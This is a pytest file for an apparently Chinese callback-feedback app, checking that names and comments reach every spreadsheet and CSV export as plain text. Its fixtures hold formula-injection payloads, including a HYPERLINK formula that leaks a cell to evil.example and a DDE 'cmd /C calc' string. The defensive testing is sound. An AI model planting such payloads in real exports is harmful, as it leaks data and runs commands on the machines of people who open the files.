"""Hostile names through every export (issue 18): a unit named like a formula (unit names come
from import files), a staff name and a citizen's words that are formulas reach every .xlsx and
.csv the app writes as text, never as a live formula or link."""

from __future__ import annotations

import csv
import zipfile
from datetime import date, datetime, time
from pathlib import Path

import pytest
from sqlalchemy import select, update

from app.audit import AuditQuery, audit_entries, record_change
from app.audit_export import write_audit_file
from app.callbacks.board import board_rows, write_board_xlsx
from app.demo import fill_demo_data
from app.reports.feedback_xlsx import write_assessment_xlsx, write_feedback_xlsx
from app.reports.monthly import monthly_analysis
from app.reports.monthly_xlsx import write_monthly_xlsx
from app.reports.quarterly import quarterly_report
from app.reports.quarterly_xlsx import write_quarterly_xlsx
from app.reports.samples import draw_sample, write_sample_xlsx
from app.reports.staff_assessment import staff_assessment, work_orders
from app.reports.unit_feedback import quarter_feedback
from app.zone import LOCAL_ZONE
from db.database import Database
from db.models import CallbackTask, Evaluation, Staff, Unit

TODAY = date(2026, 11, 20)
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
HOSTILE_UNIT = LINK
HOSTILE_STAFF = "=1+1"
HOSTILE_WORDS = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def hostile_db(sqlite_db: Database, stop_clock) -> Database:
    stop_clock(datetime.combine(TODAY, time(10), LOCAL_ZONE))
    with sqlite_db.sessions.begin() as session:
        fill_demo_data(session, cases=300, seed=3, today=TODAY)
        unit = session.scalars(select(Unit).order_by(Unit.id)).first()
        unit.name = HOSTILE_UNIT
        # Someone the staff assessment lists, so that the name reaches a workbook.
        staff = session.get(Staff, staff_assessment(session, 2026, 3).staff[0].staff_id)
        staff.name = HOSTILE_STAFF
        session.execute(update(Evaluation).values(suggestion=HOSTILE_WORDS))
        session.execute(update(CallbackTask).values(respondent_words=HOSTILE_WORDS))
        record_change(
            session,
            actor_id=staff.id,
            action="settings.change",
            entity="settings",
            entity_uid=None,
            before={"name": HOSTILE_WORDS},
            after={"name": LINK},
        )
    return sqlite_db


def formulas_in(path: Path) -> list[str]:
    """Every formula or hyperlink in an .xlsx (its sheets' XML)."""
    found = []
    with zipfile.ZipFile(path) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = book.read(name).decode()
                if "<f>" in xml or "<f " in xml or "<hyperlink" in xml:
                    found.append(name)
    return found


def texts_in(path: Path) -> str:
    with zipfile.ZipFile(path) as book:
        return book.read("xl/sharedStrings.xml").decode()


def test_every_workbook_writes_hostile_text_as_text(hostile_db: Database, tmp_path: Path) -> None:
    with hostile_db.sessions.begin() as session:
        written = {
            "quarterly": (write_quarterly_xlsx, quarterly_report(session, 2026, 3, today=TODAY)),
            "monthly": (write_monthly_xlsx, monthly_analysis(session, 2026, 9)),
            "feedback": (write_feedback_xlsx, quarter_feedback(session, 2026, 3)),
            "sample": (
                write_sample_xlsx,
                draw_sample(
                    session, start=date(2026, 7, 1), end=date(2026, 9, 30), size=50, seed=1
                ),
            ),
        }
        assessment = staff_assessment(session, 2026, 3)
        orders = work_orders(session, 2026, 3)
        board = board_rows(session, today=TODAY, role="administrator")
    paths = []
    for name, (write, report) in written.items():
        path = tmp_path / f"{name}.xlsx"
        write(report, path)
        paths.append(path)
    write_assessment_xlsx(assessment, orders, tmp_path / "assessment.xlsx")
    paths.append(tmp_path / "assessment.xlsx")
    write_board_xlsx(board, tmp_path / "board.xlsx", generated_at=datetime.now(LOCAL_ZONE))
    paths.append(tmp_path / "board.xlsx")

    for path in paths:
        assert formulas_in(path) == [], path.name
    everything = "".join(texts_in(p) for p in paths)
    assert "HYPERLINK" in everything  # the unit's name is there, as the text it is
    assert HOSTILE_STAFF in everything


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_the_audit_export_writes_hostile_names_as_text(
    hostile_db: Database, tmp_path: Path, suffix: str
) -> None:
    with hostile_db.sessions() as session:
        rows = audit_entries(session, AuditQuery())
    path = tmp_path / f"audit{suffix}"
    write_audit_file(rows, path)
    if suffix == ".xlsx":
        assert formulas_in(path) == []
        assert HOSTILE_STAFF in texts_in(path)
        return
    with path.open(encoding="utf-8-sig", newline="") as stream:
        cells = [cell for row in csv.reader(stream) for cell in row]
    assert "'" + HOSTILE_STAFF in cells or any(c.startswith("'=1+1") for c in cells)
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
